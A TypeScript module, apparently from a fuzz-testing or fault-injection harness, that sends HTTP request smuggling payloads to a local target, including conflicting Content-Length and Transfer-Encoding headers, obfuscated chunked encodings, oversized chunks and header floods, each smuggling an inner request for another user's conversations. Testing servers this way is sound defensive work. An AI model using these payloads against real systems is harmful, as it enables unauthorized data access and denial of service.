import type { Random } from '../../faults/random.ts'
import type { Attack } from '../attack.ts'

const REQUESTS_MAX = 20
const INNER = 'GET /get_conversations.php?user_id=1 HTTP/1.1\r\nHost: localhost\r\n\r\n'

/** Requests within requests: two lengths, two encodings, line ends that some take for one. */
export const attack: Attack = {
  name: 'smuggling',
  async run(target, random) {
    const requests = random.integer(1, REQUESTS_MAX)
    const own = Object.entries(target.headers).map(([name, value]) => `${name}: ${value}\r\n`)
    for (let count = 0; count < requests; count += 1) {
      const wire = random.next() < 0.8 ? await target.openApi() : await target.openDaemon()
      const { headers, body } = composeFraming(random)
      const path = random.pick(['/send_chat_message.php', '/health', '/'])
      const first = `${random.pick(['POST', 'GET'])} ${path} HTTP/1.1\r\nHost: localhost\r\n`
      wire.write(`${first}${own.join('')}${headers}\r\n${body}`)
      await wire.whenClosed(random.integer(0, 300))
      wire.hangUp()
    }
  },
}

function composeFraming(random: Random): { headers: string; body: string } {
  const many = (text: string, max: number) => text.repeat(random.integer(1, max))
  return random.pick([
    { headers: 'Content-Length: 0\r\nContent-Length: 60\r\n', body: INNER },
    { headers: 'Content-Length: 5, 5\r\n', body: `hello${INNER}` },
    { headers: 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n', body: `0\r\n\r\n${INNER}` },
    {
      headers: 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n',
      body: `0\r\n\r\n${INNER}`,
    },
    { headers: 'Transfer-Encoding: xchunked\r\n', body: `0\r\n\r\n${INNER}` },
    { headers: 'Transfer-Encoding : chunked\r\n', body: `0\r\n\r\n${INNER}` },
    { headers: 'Transfer-Encoding:\n chunked\r\n', body: `0\r\n\r\n${INNER}` },
    { headers: 'Transfer-Encoding: chunked\r\n', body: `1;${many('x', 30_000)}\r\na\r\n0\r\n\r\n` },
    { headers: 'Transfer-Encoding: chunked\r\n', body: many('1\r\na\r\n', 5_000) },
    { headers: 'Transfer-Encoding: chunked\r\n', body: `fffffffffffffffff\r\n${INNER}` },
    {
      headers: 'Transfer-Encoding: chunked\r\n',
      body: `0\r\n${many('X-Trailer: 1\r\n', 3_000)}\r\n${INNER}`,
    },
    { headers: many('X-Many: 1\r\n', 3_000), body: '' },
    { headers: 'X-Folded: 1\r\n 2\r\n', body: INNER },
    { headers: 'X: 1\n', body: INNER },
    { headers: 'Content-Length: 1', body: INNER },
  ])
}
